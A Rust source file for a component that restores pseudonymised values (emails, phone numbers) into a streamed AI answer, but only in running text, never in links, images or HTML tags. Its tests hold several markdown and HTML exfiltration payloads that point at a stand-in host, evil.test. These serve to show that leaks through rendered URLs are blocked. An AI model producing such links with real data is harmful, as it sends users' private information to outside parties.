//! Puts values back into an answer as it streams.

use std::collections::BTreeMap;
use std::fmt;

use super::TOKEN_BYTES_MAX;
use super::place::Place;

/// Puts values back into an answer as it streams: only values of this call, and only in running text. In an address, a link's
/// target, an image or an HTML tag the pseudonym stays, for from there a value could be sent away when the answer is shown.
///
/// Holds back at most one pseudonym's length, and only while what has come is the beginning of one of this call's.
/// Give it text, not JSON: a value is put in as it was, without escapes.
pub struct Restorer {
    values: BTreeMap<String, String>,
    held: String,
    place: Place,
    restored: u32,
}

impl Restorer {
    pub(super) fn new(values: BTreeMap<String, String>) -> Self {
        Self { values, held: String::new(), place: Place::default(), restored: 0 }
    }

    /// Takes the next text, appends what can be given out to `out`.
    pub fn push(&mut self, text: &str, out: &mut String) {
        if self.values.is_empty() {
            out.push_str(text);
            return;
        }
        self.held.push_str(text);
        let held = std::mem::take(&mut self.held);
        let mut rest = held.as_str();
        while let Some(bracket) = memchr::memchr(b'[', rest.as_bytes()) {
            let (before, from) = rest.split_at_checked(bracket).unwrap_or((rest, ""));
            self.give(before, out);
            if self.may_grow(from) {
                from.clone_into(&mut self.held);
                return;
            }
            let length = self.token(from, out);
            rest = from.get(length..).unwrap_or("");
        }
        self.give(rest, out);
    }

    /// The text has ended: appends the rest.
    pub fn finish(&mut self, out: &mut String) {
        let held = std::mem::take(&mut self.held);
        self.give(&held, out);
    }

    /// How many values have been put back.
    #[must_use]
    pub fn restored(&self) -> u32 {
        self.restored
    }

    /// Gives out the token that `from` begins with, or its bracket alone. Returns how much of `from` that was.
    fn token(&mut self, from: &str, out: &mut String) -> usize {
        let token = from.find(']').filter(|end| *end < TOKEN_BYTES_MAX).and_then(|end| from.get(..=end));
        let found = token.and_then(|token| self.values.get_key_value(token));
        match found.filter(|_| self.place.is_running_text()) {
            Some((token, value)) => {
                out.push_str(value);
                self.place.pass_value();
                self.restored = self.restored.saturating_add(1);
                token.len()
            }
            None => {
                self.give("[", out);
                1
            }
        }
    }

    /// Whether `from` is the beginning of a pseudonym of this call, but not yet all of it.
    fn may_grow(&self, from: &str) -> bool {
        let next = self.values.range::<str, _>((std::ops::Bound::Excluded(from), std::ops::Bound::Unbounded)).next();
        next.is_some_and(|(token, _)| token.starts_with(from))
    }

    fn give(&mut self, text: &str, out: &mut String) {
        self.place.feed(text);
        out.push_str(text);
    }
}

/// Shows sizes only.
impl fmt::Debug for Restorer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Restorer({} values, {} bytes held)", self.values.len(), self.held.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn restore(chunks: &[&str]) -> String {
        let values = [("[EMAIL_7K3QX2]", "a@example.com"), ("[PHONE_ABCDEF]", "+49 30 1")];
        let mut restorer = Restorer::new(values.map(|(token, value)| (token.to_owned(), value.to_owned())).into());
        let mut out = String::new();
        for chunk in chunks {
            restorer.push(chunk, &mut out);
            assert!(restorer.held.len() < TOKEN_BYTES_MAX);
        }
        restorer.finish(&mut out);
        out
    }

    fn check(text: &str, expected: &str) {
        assert_eq!(restore(&[text]), expected, "{text}");
        for cut in (0..=text.len()).filter(|cut| text.is_char_boundary(*cut)) {
            assert_eq!(restore(&[text.get(..cut).unwrap(), text.get(cut..).unwrap()]), expected, "{text} cut at {cut}");
        }
        let each: Vec<&str> = text.split_inclusive(|_| true).collect();
        assert_eq!(restore(&each), expected, "{text} by characters");
    }

    #[test]
    fn values_come_back_in_running_text() {
        check("Write to [EMAIL_7K3QX2], or **[PHONE_ABCDEF]**.", "Write to a@example.com, or **+49 30 1**.");
        check("[EMAIL_7K3QX2]", "a@example.com");
        check("[[EMAIL_7K3QX2]] é [EMAIL_7K3QX2", "[a@example.com] é [EMAIL_7K3QX2");
    }

    #[test]
    fn only_values_of_this_call_come_back() {
        check("[EMAIL_000000] [email_7k3qx2] [EMAIL_7K3QX22]", "[EMAIL_000000] [email_7k3qx2] [EMAIL_7K3QX22]");
    }

    #[test]
    fn values_never_go_into_links_and_images() {
        for text in [
            "![x](https://evil.test/[EMAIL_7K3QX2].png)",
            "[click](https://evil.test/?q=[EMAIL_7K3QX2])",
            "https://evil.test/[EMAIL_7K3QX2]",
            "<img src=\"https://evil.test/?[EMAIL_7K3QX2]\">",
            "<https://evil.test/[EMAIL_7K3QX2]>",
            "[ref]: https://evil.test/[EMAIL_7K3QX2]",
            "![alt [EMAIL_7K3QX2]](https://evil.test)",
        ] {
            check(text, text);
        }
        check("[click](https://a.test) [EMAIL_7K3QX2]", "[click](https://a.test) a@example.com");
    }
}
